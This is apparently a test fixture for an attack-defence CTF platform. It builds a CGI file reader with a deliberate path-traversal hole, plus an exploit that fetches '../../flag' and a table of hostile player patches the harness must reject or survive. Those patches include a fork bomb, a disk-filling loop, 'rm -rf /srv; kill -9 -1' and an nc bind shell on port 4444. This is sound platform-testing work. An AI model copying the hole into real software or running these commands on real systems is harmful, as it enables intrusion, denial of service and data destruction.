import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { SceneDefinition } from '@beacon/engine/scene'

/** A program that reads a file by name, and so every file: the smallest service with a hole. */
const program = `#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
f="\${QUERY_STRING#f=}"
cat "/srv/pages/$f"
`
const make = (text: string) => text.replaceAll('$', '\\$').replaceAll('`', '\\`')
const serve = `if [ ! -d /srv/pages ]; then mkdir -p /srv/pages /srv/cgi-bin; echo hello > /srv/pages/news
cat > /srv/cgi-bin/read <<END
${make(program)}END
chmod +x /srv/cgi-bin/read; fi
exec httpd -f -p 8080 -h /srv`

/** The hole is closed and the page stays. */
export const goodPatch = {
  'update.sh': '#!/bin/sh\nset -e\ncp read.new /srv/cgi-bin/read\nchmod +x /srv/cgi-bin/read\necho patched\n',
  'read.new': program.replace('cat "', 'case "$f" in */*) echo no; exit 0 ;; esac\ncat "'),
}

/** The same where a condition of the shell holds; else the hole is open. */
export const closedWhere = (condition: string) => ({
  ...goodPatch,
  'read.new': program.replace('cat "', `if ${condition}; then case "$f" in */*) echo no; exit 0 ;; esac; fi\ncat "`),
})

const ask = (file: string) => `printf 'GET /cgi-bin/read?f=${file} HTTP/1.0\\r\\nHost: %s:8080\\r\\n\\r\\n' "$2" | nc -w 3 "$2" 8080`
export const checker = `#!/bin/sh\n[ "$1" = check ] || exit 110\nanswer=$(${ask('news')})\ncase "$answer" in *hello*) exit 101 ;; "") exit 104 ;; *) echo "$answer"; exit 103 ;; esac\n`
export const exploit = `#!/bin/sh\n[ "$1" = exploit ] || exit 110\nanswer=$(${ask('../../flag')})\ncase "$answer" in *{*}*) echo "$answer"; exit 0 ;; "") exit 2 ;; *) exit 1 ;; esac\n`

export const definition: SceneDefinition = {
  format: 'beacon-scene/1',
  name: 'reader',
  nets: [{ id: 'lan', prefix: 28, egress: false, talk: true, capture: false }],
  routers: [],
  volumes: [],
  nodes: [
    {
      id: 'web',
      kind: 'container',
      image: 'reader@1',
      nets: [{ net: 'lan', host: 10 }],
      routes: [],
      ports: [{ port: 8080, proto: 'tcp', name: 'http', open: 'player' }],
      env: {},
      flags: [],
      files: [],
      health: null,
      command: ['/bin/sh', '-c', serve],
      entrypoint: null,
      user: null,
      cpu: 0.5,
      memory_mb: 64,
      pids: 64,
      disk_mb: 16,
      writable: true,
      caps: [],
      after: [],
      console: 'none',
      required: true,
      hidden: false,
    },
  ],
}

const script = (text: string) => ({ 'update.sh': `#!/bin/sh\n${text}\n` })
const good = goodPatch['update.sh'].slice('#!/bin/sh\n'.length)
const withRead = (read: string) => ({ ...goodPatch, 'read.new': `#!/bin/sh\n${read}\n` })
const page = `printf 'Content-Type: text/plain\\r\\n\\r\\n'`

/** Patches of strangers, with the step that each fails at and what it finds there; null: it defends. */
export const patches: readonly (readonly [what: string, files: Record<string, string>, step: string | null, results: readonly string[]])[] =
  [
    ['holds', goodPatch, null, []],
    ['does nothing', script('exit 0'), 'exploit', ['exploited']],
    ['has no script', { 'fix.sh': 'exit 0' }, 'apply', ['no_script']],
    ['ends with an error', script('echo no >&2; exit 3'), 'apply', ['exit']],
    ['never ends', script('trap "" TERM; while :; do sleep 1; done'), 'apply', ['late']],
    ['forks without end', script('f() { f | f & }; f; sleep 60'), 'apply', ['late', 'exit', 'ended']],
    ['prints without end', script('yes hostile'), 'apply', ['late']],
    [
      'fills the disk',
      script('while :; do dd if=/dev/zero of=/opt/full.$(date +%s) bs=1048576 count=64 2>/dev/null; done'),
      'apply',
      ['disk'],
    ],
    ['kills the service for good', script('rm -rf /srv; touch /srv; kill -9 -1'), 'restart', ['ended', 'flag_gone']],
    ['takes the function away', { ...goodPatch, 'read.new': `#!/bin/sh\n${page}; echo gone\n` }, 'functions', ['mumble']],
    ['takes the service away', script('rm -rf /srv/cgi-bin/read; echo > /srv/cgi-bin/read'), 'functions', ['mumble', 'down']],
    ['hides the flag', script('rm -f /flag; mkdir /flag'), 'exploit', ['flag_gone']],
    // It puts itself before the service at each start: the flag is not the service's to remove.
    ['removes the flag when asked', withRead(`${page}; rm -f /flag; cat "/srv/pages/\${QUERY_STRING#f=}"`), 'exploit', ['flag_gone']],
    ['opens a way in for others', { ...goodPatch, ...script(`${good}nc -ll -p 4444 -e /bin/sh > /dev/null 2>&1 &`) }, null, []],
    [
      'is up only every other time',
      withRead(
        `n=$(cat /tmp/n 2>/dev/null || echo 0); echo $((n + 1)) > /tmp/n; [ $((n % 2)) = 1 ] && exit 1\n${goodPatch['read.new'].slice(10)}`,
      ),
      'functions',
      ['down', 'mumble'],
    ],
  ]

/** A patch as players pack it. */
export function packPatch(files: Readonly<Record<string, string>>): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'beacon-patch-'))
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    writeFileSync(join(folder, name), text, { mode: 0o755 })
  }
  const bytes = execFileSync('tar', ['-C', folder, '-cz', '.'])
  rmSync(folder, { recursive: true })
  return bytes
}
